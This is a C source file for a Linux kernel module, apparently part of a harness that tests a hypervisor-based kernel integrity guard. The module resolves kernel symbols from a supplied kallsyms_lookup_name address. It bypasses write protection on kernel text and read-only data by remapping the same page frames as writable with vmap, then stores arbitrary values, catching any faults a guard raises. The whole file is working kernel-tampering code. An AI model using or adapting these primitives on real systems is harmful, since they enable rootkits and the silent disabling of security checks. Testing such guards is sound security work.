// SPDX-License-Identifier: MIT OR GPL-2.0
/* Finding what is to be attacked, and writing to it. */
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/vmalloc.h>
#include <asm/asm.h>

#include "attack.h"

static ulong lookup;
module_param(lookup, ulong, 0);
MODULE_PARM_DESC(lookup, "address of kallsyms_lookup_name, from /proc/kallsyms");

unsigned long symbol(const char *name)
{
    unsigned long (*find)(const char *name) = (void *)lookup;

    return find ? find(name) : 0;
}

/* A guard may answer a store with an exception. That is a result, not a reason to crash. */
#define STORE(type)                                                                                                     \
    asm volatile("1: mov %[value], %[to]\n"                                                                             \
                 "   xor %[fault], %[fault]\n"                                                                          \
                 "2:\n" _ASM_EXTABLE(1b, 2b)                                                                            \
                 : [to] "=m"(*(type *)address), [fault] "+&r"(fault)                                                    \
                 : [value] "r"((type)value)                                                                             \
                 : "memory")

int store(void *address, u64 value, unsigned int size)
{
    int fault = -EFAULT;

    switch (size) {
    case 1:
        asm volatile("1: movb %b[value], %[to]\n"
                     "   xor %[fault], %[fault]\n"
                     "2:\n" _ASM_EXTABLE(1b, 2b)
                     : [to] "=m"(*(u8 *)address), [fault] "+&r"(fault)
                     : [value] "q"((u8)value)
                     : "memory");
        break;
    case 2:
        STORE(u16);
        break;
    case 4:
        STORE(u32);
        break;
    case 8:
        STORE(u64);
        break;
    default:
        return -EINVAL;
    }
    if (fault)
        return fault;
    return memcmp(address, &value, size) ? -EPERM : 0;
}

/*
 * The kernel maps its text and its read-only data without write permission, so we map the same frames once more with it. Nothing in
 * the guest stands in the way of that; only who watches the frames themselves sees it.
 */
int overwrite(unsigned long address, u64 value, unsigned int size)
{
    unsigned long first = address & PAGE_MASK;
    int count = ((address + size - 1) & PAGE_MASK) == first ? 1 : 2;
    struct page *pages[2];
    void *alias;
    int result;

    pages[0] = pfn_to_page(__pa(first) >> PAGE_SHIFT);
    pages[1] = pfn_to_page((__pa(first) >> PAGE_SHIFT) + 1);
    alias = vmap(pages, count, VM_MAP, PAGE_KERNEL);
    if (!alias)
        return -ENOMEM;
    result = store(alias + offset_in_page(address), value, size);
    vunmap(alias);
    return result;
}
